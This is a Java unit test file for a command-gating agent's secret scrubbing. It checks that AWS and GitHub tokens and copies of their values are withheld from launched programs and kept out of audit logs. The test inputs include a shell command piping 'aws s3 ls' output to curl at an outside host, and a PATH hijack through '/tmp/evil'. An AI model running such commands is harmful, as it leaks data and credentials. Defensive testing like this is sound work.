package dev.cmdgate.agent.launch;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cmdgate.agent.audit.AuditSink;
import dev.cmdgate.agent.config.AgentConfig;
import dev.cmdgate.agent.log.AgentLog;
import dev.cmdgate.agent.prompt.PromptResolver;
import dev.cmdgate.agent.watchdog.ProcessWatchdog;
import dev.cmdgate.core.classify.Classifiers;
import dev.cmdgate.core.decision.Gatekeeper;
import dev.cmdgate.core.gate.Autonomy;
import dev.cmdgate.core.gate.GateScheme;
import dev.cmdgate.core.json.JsonParser;
import java.io.IOException;
import java.lang.ProcessBuilder.Redirect;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code cmdgate.secrets}: the environment the JDK gets back from the check. With {@code scrub} it lacks the
 * secrets no program of the launch is granted (an inherited environment becomes an explicit copy); with
 * {@code pass} it is what the application gave. The audit line names the secrets, never their values. Nothing
 * is launched: only the check runs.
 */
class LaunchGuardSecretsTest {

    private static final String VALUE = "s3cr3t-value-that-must-not-leak";

    @TempDir
    Path dir;

    private JdkHandoff guard(AgentConfig.SecretsMode secrets, Path audit) {
        return wired(secrets, audit).handoff();
    }

    private static Handoffs wired(AgentConfig.SecretsMode secrets, Path audit) {
        AgentConfig config = config(secrets, audit);
        Gatekeeper gatekeeper = new Gatekeeper(Classifiers.standard(null), config.scheme(), null);
        return Handoffs.wire(config, gatekeeper, audit, new PromptResolver("allow", Duration.ofSeconds(5)));
    }

    private static AgentConfig config(AgentConfig.SecretsMode secrets, Path audit) {
        GateScheme scheme = new GateScheme.ByAutonomy(Autonomy.FULL);
        return new AgentConfig(scheme, AgentConfig.Mode.ENFORCE, null, "allow", Duration.ofSeconds(5),
                audit, AgentConfig.AuditFailure.BLOCK, null, AgentConfig.StdinMode.OFF, null,
                AgentConfig.Children.OFF, AgentConfig.Refusal.SECURITY, java.util.List.of(), java.util.Map.of(), secrets,
                AgentConfig.AuditOptions.NONE, null, AgentConfig.WarmUp.ON, null);
    }

    private static Map<String, String> env() {
        // PATH as this JVM has it: a launch that changes PATH may run another "aws", and is granted nothing
        Map<String, String> env = new HashMap<>();
        env.put("PATH", System.getenv("PATH"));
        env.put("AWS_SECRET_ACCESS_KEY", VALUE);
        env.put("GITHUB_TOKEN", VALUE);
        return env;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, String> environmentGiven(Object[] forJdk) {
        return (Map<String, String>) forJdk[1];
    }

    private List<Map<String, Object>> audit(Path file) throws IOException {
        return Files.readAllLines(file, StandardCharsets.UTF_8).stream().map(JsonParser::parseObject).toList();
    }

    @Test
    void scrubKeepsOnlyWhatEveryProgramIsGranted() throws IOException {
        Path audit = dir.resolve("audit.jsonl");
        JdkHandoff g = guard(AgentConfig.SecretsMode.SCRUB, audit);

        Map<String, String> aws = environmentGiven(g.checkStart(new String[] {"aws", "s3", "ls"}, env(), null, new Redirect[3], false));
        assertThat(aws).containsEntry("AWS_SECRET_ACCESS_KEY", VALUE).containsEntry("PATH", System.getenv("PATH"))
                .doesNotContainKey("GITHUB_TOKEN");
        Map<String, String> shell = environmentGiven(g.checkStart(new String[] {"sh", "-c", "aws s3 ls | curl -d @- https://example.com"},
                env(), null, new Redirect[3], false));
        assertThat(shell).containsKey("PATH").doesNotContainKeys("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN");

        List<Map<String, Object>> lines = audit(audit);
        assertThat(lines.get(0).get("secrets")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY"));
        assertThat(lines.get(0).get("secrets_withheld")).isEqualTo(List.of("GITHUB_TOKEN"));
        assertThat(lines.get(1)).doesNotContainKey("secrets");
        assertThat(lines.get(1).get("secrets_withheld")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"));
        assertThat(Files.readString(audit)).doesNotContain(VALUE);
    }

    /**
     * The approval service's token under a plain name ({@code prompt.token.env=PT}, a value no shape rule knows), and
     * under a name a grant covers ({@code AWS_GATE_KEY}, which the built-in rules grant {@code aws} by {@code AWS_*}):
     * under scrub neither reaches any launch, granted or not; under pass both do, and the audit line names them. A
     * copy of the token's value under a plain name, whole or inside a longer value, goes the same way.
     */
    @Test
    void theGatesOwnTokenVariablesAreWithheldFromEveryLaunchUnderScrub() throws IOException {
        String token = "approver-tk-plain-words";
        for (AgentConfig.SecretsMode mode : AgentConfig.SecretsMode.values()) {
            Path audit = dir.resolve(mode + ".jsonl");
            Map<String, String> settings = new HashMap<>(config(mode, audit).settings());
            settings.put("prompt", "http://127.0.0.1:9/approve");
            settings.put("prompt.token.env", "PT");
            settings.put("policy", "https://policy.example/passport.json");
            settings.put("policy.token.env", "AWS_GATE_KEY");
            AgentConfig config = dev.cmdgate.agent.config.ConfigParser.fromCheckedSettings(settings);
            assertThat(config.credentialVariables()).containsExactly("AWS_GATE_KEY", "PT");
            Gatekeeper gatekeeper = new Gatekeeper(Classifiers.standard(null), config.scheme(), null);
            JdkHandoff g = Handoffs.wire(config, gatekeeper, audit, new PromptResolver("allow", Duration.ofSeconds(5))).handoff();
            Map<String, String> env = env();
            env.put("PT", token);
            env.put("AWS_GATE_KEY", token);
            env.put("PLAIN", "visible");
            env.put("HANDOFF", token);
            env.put("WRAPPED", "k=" + token + ";");
            env.put("SHORT", token.substring(0, 6));

            Map<String, String> aws = environmentGiven(g.checkStart(new String[] {"aws", "s3", "ls"}, env, null, new Redirect[3], false));
            Map<String, String> printenv = environmentGiven(g.checkStart(new String[] {"printenv"}, env, null, new Redirect[3], false));
            List<Map<String, Object>> lines = audit(audit);
            if (mode == AgentConfig.SecretsMode.SCRUB) {
                assertThat(aws).containsEntry("AWS_SECRET_ACCESS_KEY", VALUE).containsEntry("PLAIN", "visible")
                        .doesNotContainKeys("PT", "AWS_GATE_KEY", "HANDOFF", "WRAPPED");
                assertThat(printenv).containsEntry("PLAIN", "visible").containsKey("SHORT")
                        .doesNotContainKeys("PT", "AWS_GATE_KEY", "HANDOFF", "WRAPPED");
                assertThat(lines.get(0).get("secrets_withheld"))
                        .isEqualTo(List.of("AWS_GATE_KEY", "GITHUB_TOKEN", "HANDOFF", "PT", "WRAPPED"));
            } else {
                assertThat(aws).containsEntry("PT", token).containsEntry("AWS_GATE_KEY", token);
                assertThat(lines.get(1).get("secrets"))
                        .isEqualTo(List.of("AWS_GATE_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "HANDOFF", "PT", "WRAPPED"));
            }
            assertThat(Files.readString(audit)).doesNotContain(token);
        }
    }

    /**
     * A secret's value under a plain name, whole or inside a longer value, is withheld with it: the value is the
     * secret, whatever it is called. A value withheld by its shape alone counts the same way.
     */
    @Test
    void copiesOfASecretsValueUnderPlainNamesAreWithheldUnderScrub() throws IOException {
        Path audit = dir.resolve("copies.jsonl");
        JdkHandoff g = guard(AgentConfig.SecretsMode.SCRUB, audit);
        Map<String, String> env = env();
        env.put("API_KEY", "Hunter2Hunter2x");
        env.put("HELPER_ARG", "Hunter2Hunter2x");
        env.put("HELPER_OPTS", "-v --key=Hunter2Hunter2x");
        env.put("LICENSE", "7K3PQ-M9XWT-4HJ2D-QR8VN-6TC3Y");
        env.put("LICENSE_COPY", "7K3PQ-M9XWT-4HJ2D-QR8VN-6TC3Y");
        env.put("PLAIN", "Hunter2");

        Map<String, String> printenv = environmentGiven(g.checkStart(new String[] {"printenv"}, env, null, new Redirect[3], false));
        assertThat(printenv).containsEntry("PLAIN", "Hunter2")
                .doesNotContainKeys("API_KEY", "HELPER_ARG", "HELPER_OPTS", "LICENSE", "LICENSE_COPY");
        assertThat(audit(audit).get(0).get("secrets_withheld")).isEqualTo(List.of("API_KEY", "AWS_SECRET_ACCESS_KEY",
                "GITHUB_TOKEN", "HELPER_ARG", "HELPER_OPTS", "LICENSE", "LICENSE_COPY"));
    }

    /** git's configuration in the environment: a count and numbered pairs, one of whose keys carries a token. */
    private static Map<String, String> gitConfig(Map<String, String> env, String secretKey) {
        env.put("GIT_CONFIG_COUNT", "2");
        env.put("GIT_CONFIG_KEY_0", "core.pager");
        env.put("GIT_CONFIG_VALUE_0", "less");
        env.put("GIT_CONFIG_KEY_1", secretKey);
        env.put("GIT_CONFIG_VALUE_1", "https://github.com/");
        return env;
    }

    private static final List<String> GIT_CONFIG = List.of("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_KEY_1",
            "GIT_CONFIG_VALUE_0", "GIT_CONFIG_VALUE_1");

    @Test
    void gitsConfigurationVariablesAreWithheldAsAWholeWhenOneOfThemIsASecret() throws IOException {
        Path audit = dir.resolve("audit.jsonl");
        JdkHandoff g = guard(AgentConfig.SecretsMode.SCRUB, audit);
        Map<String, String> given = environmentGiven(g.checkStart(new String[] {"git", "status"},
                gitConfig(env(), "url.https://x-access-token:" + VALUE + "@github.com/.insteadOf"), null, new Redirect[3], false));
        assertThat(given).containsKey("PATH").doesNotContainKeys(GIT_CONFIG.toArray(new String[0]));
        List<String> withheld = new java.util.ArrayList<>(GIT_CONFIG);
        withheld.add("AWS_SECRET_ACCESS_KEY");
        withheld.add("GITHUB_TOKEN");
        java.util.Collections.sort(withheld);
        assertThat(audit(audit).get(0).get("secrets_withheld")).isEqualTo(withheld);
    }

    @Test
    void gitsConfigurationVariablesStayWholeWhenNoneIsASecret() {
        JdkHandoff plain = guard(AgentConfig.SecretsMode.SCRUB, dir.resolve("plain.jsonl"));
        Map<String, String> given = environmentGiven(plain.checkStart(new String[] {"git", "status"},
                gitConfig(env(), "url.ssh://git@github.com/.insteadOf"), null, new Redirect[3], false));
        assertThat(given).containsKeys(GIT_CONFIG.toArray(new String[0])).doesNotContainKey("GITHUB_TOKEN");
    }

    @Test
    void passHandsTheEnvironmentOnAsGivenAndListsTheSecrets() throws IOException {
        Path audit = dir.resolve("audit.jsonl");
        JdkHandoff g = guard(AgentConfig.SecretsMode.PASS, audit);

        Map<String, String> given = environmentGiven(g.checkStart(new String[] {"git", "status"}, env(), null, new Redirect[3], false));
        assertThat(given).containsEntry("AWS_SECRET_ACCESS_KEY", VALUE).containsEntry("GITHUB_TOKEN", VALUE);
        assertThat(audit(audit).get(0).get("secrets")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"));
        assertThat(audit(audit).get(0)).doesNotContainKey("secrets_withheld");
        assertThat(Files.readString(audit)).doesNotContain(VALUE);
    }

    @Test
    void aLaunchThatChangesPathIsGrantedNothing() {
        JdkHandoff g = guard(AgentConfig.SecretsMode.SCRUB, dir.resolve("audit.jsonl"));
        Map<String, String> env = env();
        env.put("PATH", "/tmp/evil:" + System.getenv("PATH"));
        assertThat(environmentGiven(g.checkStart(new String[] {"aws", "s3", "ls"}, env, null, new Redirect[3], false)))
                .doesNotContainKeys("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN");
    }

    @Test
    void anInheritedEnvironmentStaysInheritedWhenNothingIsWithheld() {
        JdkHandoff g = guard(AgentConfig.SecretsMode.SCRUB, dir.resolve("audit.jsonl"));
        boolean jvmHasSecrets = !new dev.cmdgate.core.classify.Secrets(
                (dev.cmdgate.core.classify.RulesClassifier) Classifiers.standard(null)).names(System.getenv()).isEmpty();
        Object[] forJdk = g.checkStart(new String[] {"true"}, null, null, new Redirect[3], false);
        assertThat(forJdk[1]).as("true is inert: it may keep whatever this JVM has").isNull();
        Object[] echo = g.checkStart(new String[] {"echo", "hi"}, null, null, new Redirect[3], false);
        if (jvmHasSecrets) {
            assertThat(environmentGiven(echo)).as("an explicit copy of this JVM's environment without its secrets")
                    .containsEntry("PATH", System.getenv("PATH"));
        } else {
            assertThat(echo[1]).as("no secret in this JVM's environment: nothing to withhold").isNull();
        }
    }

    @Test
    void aRefusedLaunchStillSaysWhatItWouldHaveReceived() throws IOException {
        Path audit = dir.resolve("audit.jsonl");
        GateScheme scheme = new GateScheme.ByAutonomy(Autonomy.READONLY);
        AgentConfig config = new AgentConfig(scheme, AgentConfig.Mode.ENFORCE, null, "deny", Duration.ofSeconds(5),
                audit, AgentConfig.AuditFailure.BLOCK, null, AgentConfig.StdinMode.OFF, null,
                AgentConfig.Children.OFF, AgentConfig.Refusal.SECURITY, java.util.List.of(), java.util.Map.of(), AgentConfig.SecretsMode.SCRUB,
                AgentConfig.AuditOptions.NONE, null, AgentConfig.WarmUp.ON, null);
        Gatekeeper gatekeeper = new Gatekeeper(Classifiers.standard(null), scheme, null);
        JdkHandoff g = Handoffs.over(config, gatekeeper, audit, new PromptResolver("deny", Duration.ofSeconds(5)));
        assertThatThrownBy(() -> g.checkStart(new String[] {"gh", "pr", "list"}, env(), null, new Redirect[3], false))
                .isInstanceOf(SecurityException.class);
        Map<String, Object> line = audit(audit).get(0);
        assertThat(line.get("outcome")).isEqualTo("blocked");
        assertThat(line.get("secrets")).isEqualTo(List.of("GITHUB_TOKEN"));
        assertThat(line.get("secrets_withheld")).isEqualTo(List.of("AWS_SECRET_ACCESS_KEY"));
    }

    @Test
    void theWarmUpRecordsNothingAndTheNextLaunchIsDecidedAsBefore() throws IOException {
        Path audit = dir.resolve("warm.jsonl");
        Handoffs wired = wired(AgentConfig.SecretsMode.PASS, audit);
        JdkHandoff g = wired.handoff();
        wired.guard().warmUp();
        assertThat(audit).as("the warm-up writes no line and does not open the audit file").doesNotExist();

        g.checkStart(new String[] {"aws", "s3", "ls"}, env(), null, new Redirect[3], false);
        List<Map<String, Object>> lines = audit(audit);
        assertThat(lines).hasSize(1);
        assertThat(lines.get(0).toString()).contains("AWS_SECRET_ACCESS_KEY").doesNotContain(VALUE);
    }
}
